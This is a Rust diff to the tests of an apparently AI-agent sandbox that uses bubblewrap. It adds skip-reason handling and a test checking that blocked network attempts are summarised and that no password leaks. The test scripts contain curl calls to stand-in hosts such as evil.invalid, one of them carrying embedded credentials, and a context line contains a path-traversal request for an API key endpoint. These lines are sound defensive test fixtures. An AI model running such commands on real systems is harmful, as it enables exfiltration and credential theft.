@@ -6,6 +6,7 @@ use crate::support::{eventually, json};
 use std::fs;
 use std::io::{Read as _, Write as _};
 use std::net::TcpListener;
+use std::process::{Command, Output};
 use std::sync::{Arc, Mutex};
 
 /// Somewhere that a room must not reach, or a model: what it was sent.
@@ -44,15 +45,31 @@ impl Host {
     }
 }
 
-/// Whether this machine makes rooms; a container may not.
+/// Whether this machine makes rooms; a container may not. Continuous integration installs bubblewrap, and fails without it.
 pub(super) fn has_rooms() -> bool {
-    let mut command = std::process::Command::new("bwrap");
+    let mut command = Command::new("bwrap");
     command.args(["--unshare-user", "--unshare-all", "--disable-userns", "--ro-bind", "/", "/", "true"]);
-    let has = command.output().is_ok_and(|output| output.status.success());
-    if !has {
-        eprintln!("not tried: bubblewrap makes no rooms on this machine");
+    let is_ci = std::env::var("CI").is_ok_and(|value| value == "true");
+    let why = why_untried(command.output(), is_ci);
+    if let Some(why) = &why {
+        eprintln!("not tried: {why}");
     }
-    has
+    why.is_none()
+}
+
+/// Why nothing is tried in a room, by what bubblewrap came to; nothing if it made one.
+fn why_untried(tried: std::io::Result<Output>, is_ci: bool) -> Option<String> {
+    match tried {
+        Ok(output) if output.status.success() => None,
+        Ok(output) => {
+            let said = String::from_utf8_lossy(&output.stderr).trim_end().to_owned();
+            Some(format!("bubblewrap makes no rooms on this machine: {said}"))
+        }
+        Err(error) => {
+            assert!(!is_ci, "bubblewrap is missing, and what it shuts in is untested: {error}");
+            Some(format!("bubblewrap is missing: {error}"))
+        }
+    }
 }
 
 /// Whether some process of this machine has a word in its command line.
@@ -61,6 +78,18 @@ pub(super) fn runs(word: &str) -> bool {
     processes
         .filter_map(|entry| fs::read(entry.path().join("cmdline")).ok())
         .any(|line| line.split(|byte| *byte == 0).any(|one| one == word.as_bytes()))
+}
+
+#[test]
+fn without_bubblewrap_rooms_are_not_tried() {
+    let why = why_untried(Command::new("/nowhere/bwrap").output(), false);
+    assert!(why.is_some_and(|why| why.starts_with("bubblewrap is missing")));
+}
+
+#[test]
+#[should_panic(expected = "bubblewrap is missing")]
+fn without_bubblewrap_continuous_integration_fails() {
+    why_untried(Command::new("/nowhere/bwrap").output(), true);
 }
 
 #[test]
@@ -152,6 +181,36 @@ curl --silent --max-time 20 --path-as-is "$OPENAI_BASE_URL/../key/generate" -d x
         "{notes}"
     );
     assert!(!json!(shop.transcript(&session)).to_string().contains("canary"));
+}
+
+#[test]
+fn what_a_room_was_refused_is_told_however_much_its_agent_writes() {
+    if !has_rooms() {
+        return;
+    }
+    let shop = Shop::new();
+    let session = shop.session(&json!({}));
+    // Between more than a transcript keeps and more than its end has.
+    let script = r#"fill() { yes 0123456789012345678901234567890123456789012345678901234567890123456789 | head -c "$1"; }
+fill 9000000
+curl --silent --max-time 20 http://plain.invalid/path
+curl --silent --max-time 20 --request-target http://ada:canary@plain.invalid/path "$http_proxy"
+for path in 1 2 3; do curl --silent --max-time 20 "https://evil.invalid/$path"; done
+curl --silent --max-time 20 https://evil.invalid:8443/
+fill 1000000
+echo mended >> src/cart.mjs
+"#;
+    let machine = shop.machine(script, &["--isolation", "sandbox"]);
+    let told = shop.ended(&session);
+    assert_eq!(told["outcome"], "completed", "{told} {}", machine.said());
+    let summary = "Network: 6 tries were refused in all: evil.invalid:443 (3 times), GET plain.invalid (2 times), \
+        evil.invalid:8443.";
+    let entries = shop.transcript(&session);
+    assert!(!json!(entries).to_string().contains("canary"), "a password is told");
+    let of_network: Vec<_> = entries.iter().filter(|entry| entry["kind"] == "network").collect();
+    assert_eq!(of_network.last().map(|entry| &entry["content"]), Some(&json!(summary)), "{of_network:#?}");
+    let record = shop.project.owner.get(&format!("/api/sessions/{session}/record")).send().expect(200);
+    assert!(record.to_string().contains(summary), "{record}");
 }
 
 #[test]
